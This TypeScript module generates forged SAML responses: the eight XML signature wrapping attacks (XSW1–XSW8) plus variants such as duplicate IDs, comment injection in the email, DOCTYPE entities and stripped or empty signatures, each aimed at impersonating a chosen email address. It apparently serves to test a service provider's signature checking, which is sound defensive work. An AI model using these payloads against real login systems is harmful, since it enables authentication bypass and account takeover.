/** A signed answer as XML, and back to what the form carries. */
export const unpack = (posted: string): string => Buffer.from(posted, "base64").toString("utf8");
export const pack = (xml: string): string => Buffer.from(xml).toString("base64");

const part = (xml: string, pattern: RegExp): string => pattern.exec(xml)?.[0] ?? "";
const assertionIn = (xml: string) => part(xml, /<saml:Assertion[\s\S]*<\/saml:Assertion>/);
const signatureIn = (xml: string) => xml.match(ANY_SIGNATURE)?.[0] ?? "";

/** An assertion about someone else: what the attacker wants us to read. */
function forge(xml: string, email: string, keepsId = false): string {
  const forged = assertionIn(xml)
    .replace(signatureIn(xml), "")
    .replace(/(<saml:AttributeValue[^>]*>)[^<]*@[^<]*(<)/, `$1${email}$2`)
    .replace(/(<saml:NameID[^>]*>)[^<]*(<)/, "$1evil$2");
  return keepsId ? forged : forged.replace(/ ID="[^"]*"/, ' ID="_evil"');
}

/**
 * The eight ways to wrap a signed document of Somorovsky et al., "On Breaking SAML" (2012), and some newer ones: the signed
 * assertion or response stays in the document, so that its signature holds, and something else is read.
 *
 * @param email whom the attacker wants to be
 */
export function wrappings(xml: string, email: string): Readonly<Record<string, string>> {
  const assertion = assertionIn(xml);
  const signature = signatureIn(assertion);
  const bare = assertion.replace(signature, "");
  const forged = forge(xml, email);
  const into = (target: string, addition: string) =>
    target.replace("</saml:Assertion>", `${addition}</saml:Assertion>`);
  const inObject = (content: string) =>
    signature.replace(
      /<\/(\w+:)?Signature>$/,
      (end) => `<ds:Object xmlns:ds="${DSIG}">${content}</ds:Object>${end}`,
    );
  const asSecond = (content: string) => xml.replace(assertion, content);
  const response = xml.replace(assertion, forged).replace(/ ID="[^"]*"/, ' ID="_response"');
  return {
    "XSW1: the signed response inside a forged one's signature": response.replace(
      "<samlp:Status>",
      `${inObject(xml)}<samlp:Status>`,
    ),
    "XSW2: the signed response beside the signature of a forged one": response.replace(
      "<samlp:Status>",
      `${signature}${xml}<samlp:Status>`,
    ),
    "XSW3: a forged assertion before the signed one": asSecond(forged + assertion),
    "XSW4: the signed assertion inside a forged one": asSecond(into(forged, assertion)),
    "XSW5: the signature in a forged assertion, the signed one after it": asSecond(
      into(forged, signature) + bare,
    ),
    "XSW6: the signed assertion in the signature of a forged one": asSecond(
      forged.replace(
        "<saml:Subject>",
        `${signature.replace(/<\/(\w+:)?Signature>$/, (end) => bare + end)}<saml:Subject>`,
      ),
    ),
    "XSW7: a forged assertion in extensions": xml.replace(
      "<samlp:Status>",
      `<samlp:Extensions>${forged}</samlp:Extensions><samlp:Status>`,
    ),
    "XSW8: the signed assertion in an object of the signature": asSecond(
      forged.replace("<saml:Subject>", `${inObject(bare)}<saml:Subject>`),
    ),
    "a forged assertion after the signed one": asSecond(assertion + forged),
    "two assertions with one id": asSecond(forge(xml, email, true) + assertion),
    "a signed assertion with a second subject": asSecond(
      into(assertion, forged.slice(forged.indexOf("<saml:Subject>"), forged.indexOf("</saml:Subject>") + 15)),
    ),
    "a signed assertion elsewhere, a forged one without a signature": asSecond(forged).replace(
      "</samlp:Response>",
      `<samlp:Extensions>${assertion}</samlp:Extensions></samlp:Response>`,
    ),
    "a comment in the address": xml.replace(/(<saml:AttributeValue[^>]*>[^<@]*)(@)/, "$1<!-- -->$2"),
    "a document type": `<!DOCTYPE x [<!ENTITY e "${email}">]>${xml}`,
    "a processing instruction": xml.replace("<samlp:Status>", "<?xml-stylesheet href='x'?><samlp:Status>"),
    "an edited assertion": xml.replace(/(<saml:AttributeValue[^>]*>)[^<]*@[^<]*(<)/, `$1${email}$2`),
    "no signature": xml.replaceAll(ANY_SIGNATURE, ""),
    "an empty signature": xml.replace(signature, `<ds:Signature xmlns:ds="${DSIG}"></ds:Signature>`),
    "a signature of nothing": xml.replace(
      signature,
      signature.replace(/<(\w+:)?Reference[\s\S]*<\/(\w+:)?Reference>/, ""),
    ),
    "a digest of our own": asSecond(
      assertion.replace(/(DigestValue[^>]*>)[^<]*/, `$1${Buffer.alloc(32).toString("base64")}`),
    ),
  };
}

const ANY_SIGNATURE = /<(\w+:)?Signature[ >][\s\S]*?<\/(\w+:)?Signature>/g;

const DSIG = "http://www.w3.org/2000/09/xmldsig#";
